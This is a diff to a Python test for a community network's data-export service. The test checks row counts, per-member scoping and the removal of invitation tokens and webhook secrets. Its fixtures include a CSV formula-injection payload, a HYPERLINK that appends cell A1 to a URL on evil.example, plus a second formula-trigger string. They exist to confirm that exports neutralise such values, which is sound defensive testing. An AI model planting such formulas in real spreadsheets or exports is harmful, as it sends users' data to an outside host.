@@ -1,8 +1,11 @@
-"""The exports service over a real NATS server with identity, hubs, meetups
-and referrals (one test: starting them and a network with a meetup and a
+"""The exports service over a real NATS server with identity, hubs, meetups,
+referrals and webhooks (one test: starting them and a network with a meetup and a
 referral is most of its time): a small network exported by its admin (every file present,
-row counts as written, CSV and NDJSON that parse), a member's own export
-(their data only, never another member's address), QUEUED → RUNNING →
+row counts as written, CSV and NDJSON that parse; mission cards, date polls
+and every vote, workshop proposals, invitations without their link, webhook
+endpoints without their secret; a topic written as a formula neutralised), a
+member's own export (their data only: their cards, their own votes, their
+proposals; never another member's address), QUEUED → RUNNING →
 READY, links that expire or are tampered with, other networks' exports and
 links, repeated starts and the daily limit, expiry after 24 hours, and
 identity's erasure (an event as identity would publish it) deleting every
@@ -44,6 +47,7 @@ from services.runtime.errors import (
 from services.runtime.host import ServiceHost
 from services.runtime.stream import CloudEvent, json_encoder
 from services.runtime.tenancy import RequestContext
+from services.webhooks import contract as wc
 from tests.support.identity import add_member, as_member, card, create_network
 from tests.support.meetups import IN_11E, OPEN_RULES, VENUE, VOLTAIRE, local
 from tests.support.services import Services
@@ -59,11 +63,17 @@ class Net:
     ana: idc.Session
     bob: idc.Session
     hub: hc.Hub
+    poll: ec.DatePoll
+
+
+FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Open me")'
 
 
 async def small_network(bus: Bus, clock: MovableClock, referrals: ServiceHost, slug: str) -> Net:
     """An admin and two members in one open hub; a lunch both members
-    attended; Ana referred Bob an outside prospect."""
+    attended, closed (each drew a mission card); Ana referred Bob an outside
+    prospect; a date poll both voted on; Ana proposed a workshop whose topic
+    is a formula; an invitation pending; a webhook endpoint."""
     from services.referrals.views import directory
 
     tenant, admin = await create_network(bus, slug, f"admin@{slug}.example", "Admin")
@@ -106,6 +116,37 @@ async def small_network(bus: Bus, clock: MovableClock, referrals: ServiceHost, s
         as_member(admin),
     )
     await bus.request(
+        ec.CloseMeetup(meetup_id=meetup.meetup_id, next_local_start=local(clock.now(), 7)),
+        as_member(admin),
+    )
+    poll = await bus.request(
+        ec.OpenDatePoll(
+            hub_id=hub.hub_id,
+            title="Afterwork",
+            slots=[local(clock.now(), 10, 19), local(clock.now(), 11, 19)],
+            venue=VENUE,
+        ),
+        as_member(admin),
+    )
+    first, second = (s.slot_id for s in poll.slots)
+    ballots: list[tuple[idc.Session, dict[str, ec.Vote]]] = [
+        (ana, {first: "yes", second: "no"}),
+        (bob, {first: "if_need_be"}),
+    ]
+    for who, votes in ballots:
+        await bus.request(ec.VoteOnPoll(poll_id=poll.poll_id, votes=votes), as_member(who))
+    await bus.request(
+        ec.ProposeWorkshop(hub_id=hub.hub_id, topic=FORMULA, description="-2+3 @SUM(A1)"),
+        as_member(ana),
+    )
+    await bus.request(idc.InviteMember(email=f"newcomer@{slug}.example"), as_member(admin))
+    await bus.request(
+        wc.CreateEndpoint(
+            url="http://127.0.0.1:9/hook", event_types=["quartier.hubs."], description="crm"
+        ),
+        as_member(admin),
+    )
+    await bus.request(
         rc.GiveReferral(
             receiver_id=bob.member_id,
             about="an oven to fix",
@@ -120,7 +161,7 @@ async def small_network(bus: Bus, clock: MovableClock, referrals: ServiceHost, s
     await bus.request(
         rc.PostNeed(activity_codes=["baker"], description="bread for a launch"), as_member(ana)
     )
-    return Net(tenant, admin, ana, bob, hub)
+    return Net(tenant, admin, ana, bob, hub, poll)
 
 
 async def started_host(host: ServiceHost) -> ServiceHost:
@@ -180,6 +221,7 @@ async def test_a_network_export_a_members_own_and_an_erasure(
     services: Services, clock: MovableClock, client_bus: Bus
 ) -> None:
     referrals = await services.start("referrals")
+    await services.start("webhooks")
     bus = client_bus
     net = await small_network(bus, clock, referrals, "x-pole")
     _, other_admin = await create_network(bus, "x-autre", "admin@x-autre.example")
@@ -207,6 +249,16 @@ async def test_a_network_export_a_members_own_and_an_erasure(
                 await bus.request(query, ana)
         with pytest.raises(InvalidInput):
             await bus.request(rc.ListNetworkNeeds(limit=51), admin)
+        # events' own, for the network's export: tenant admins, paged, this network's polls
+        with pytest.raises(Forbidden):
+            await bus.request(ec.ListPollVotes(poll_id=net.poll.poll_id), ana)
+        with pytest.raises(InvalidInput):
+            await bus.request(ec.ListPollVotes(poll_id=net.poll.poll_id, limit=51), admin)
+        for poll_id, who in (("no-such-poll", admin), (net.poll.poll_id, as_member(other_admin))):
+            with pytest.raises(NotFound):
+                await bus.request(ec.ListPollVotes(poll_id=poll_id), who)
+        votes = await bus.request(ec.ListPollVotes(poll_id=net.poll.poll_id, limit=2), admin)
+        assert (len(votes.items), votes.total) == (2, 3)
         with pytest.raises(NotFound):  # another network's admin does not see it
             await bus.request(c.GetExport(export_id=started.export_id), as_member(other_admin))
         with pytest.raises(NotFound):  # nor does a member
@@ -239,7 +291,10 @@ async def test_a_network_export_a_members_own_and_an_erasure(
     counts = {name: len(r) for name, r in rows.items()}
     assert counts["members.csv"] == 3 and counts["hubs.ndjson"] == 1
     assert counts["hub_members.csv"] == 3 and counts["hub_rules_history.ndjson"] == 1
-    assert counts["meetups.ndjson"] == 1 and counts["meetup_attendance.csv"] == 2
+    assert counts["meetups.ndjson"] == 2 and counts["meetup_attendance.csv"] == 2  # and the next
+    assert counts["mission_cards.csv"] == 2 and counts["date_polls.ndjson"] == 1
+    assert counts["date_poll_votes.csv"] == 3 and counts["workshop_proposals.csv"] == 1
+    assert counts["invitations.csv"] == 4 and counts["webhook_endpoints.csv"] == 1
     assert counts["referrals.ndjson"] == 1 and counts["hub_engagement.ndjson"] == 1
     assert counts["one_to_ones.csv"] == 1 and counts["needs.ndjson"] == 1
     assert counts["reports.ndjson"] == 1 + 1 + 3  # the network, the hub, each member
@@ -249,6 +304,31 @@ async def test_a_network_export_a_members_own_and_an_erasure(
         "bob@x-pole.example",
     }
     assert rows["referrals.ndjson"][0]["prospect"]["email"] == "martin@outside.example"
+    assert {r["member_id"] for r in rows["mission_cards.csv"]} == {
+        net.ana.member_id,
+        net.bob.member_id,
+    }
+    [poll] = rows["date_polls.ndjson"]
+    assert poll["voters"] == 2 and "my_votes" not in poll
+    assert sorted((r["member_id"], r["vote"]) for r in rows["date_poll_votes.csv"]) == sorted(
+        [(net.ana.member_id, "yes"), (net.ana.member_id, "no"), (net.bob.member_id, "if_need_be")]
+    )
+    [proposal] = rows["workshop_proposals.csv"]  # neutralised for spreadsheets (OWASP)
+    assert proposal["topic"] == "'" + FORMULA and proposal["description"] == "'-2+3 @SUM(A1)"
+    assert sorted((r["email"].split("@")[0], r["status"]) for r in rows["invitations.csv"]) == [
+        ("admin", "accepted"),  # every member joined by one
+        ("ana", "accepted"),
+        ("bob", "accepted"),
+        ("newcomer", "pending"),
+    ]
+    [endpoint] = rows["webhook_endpoints.csv"]
+    assert endpoint["url"] == "http://127.0.0.1:9/hook" and endpoint["description"] == "crm"
+    assert json.loads(endpoint["event_types"]) == ["quartier.hubs."]
+    assert endpoint["enabled"] == "true"
+    with zipfile.ZipFile(io.BytesIO(await download(bus, export))) as z:
+        raw = b"".join(z.read(n) for n in z.namelist())
+        assert b"token" not in z.read("invitations.csv")
+    assert b"whsec_" not in raw
 
     # a member's own export: theirs only, never another member's address
     own, _ = await ready(bus, ana, mine.export_id)
@@ -260,6 +340,12 @@ async def test_a_network_export_a_members_own_and_an_erasure(
     assert [r["member_id"] for r in own_rows["meetup_attendance.csv"]] == [net.ana.member_id]
     assert len(own_rows["referrals.ndjson"]) == 1 and len(own_rows["reports.ndjson"]) == 1
     assert len(own_rows["one_to_ones.csv"]) == 1 and len(own_rows["needs.ndjson"]) == 1
+    assert [r["member_id"] for r in own_rows["mission_cards.csv"]] == [net.ana.member_id]
+    assert sorted(r["vote"] for r in own_rows["date_poll_votes.csv"]) == ["no", "yes"]
+    assert {r["member_id"] for r in own_rows["date_poll_votes.csv"]} == {net.ana.member_id}
+    assert len(own_rows["date_polls.ndjson"]) == 1
+    assert [r["host_id"] for r in own_rows["workshop_proposals.csv"]] == [net.ana.member_id]
+    assert own_rows["invitations.csv"] == [] and own_rows["webhook_endpoints.csv"] == []
     with zipfile.ZipFile(io.BytesIO(archive)) as z:
         everything = b"".join(z.read(n) for n in z.namelist())
     for address in (b"admin@x-pole", b"bob@x-pole", b"@x-autre"):
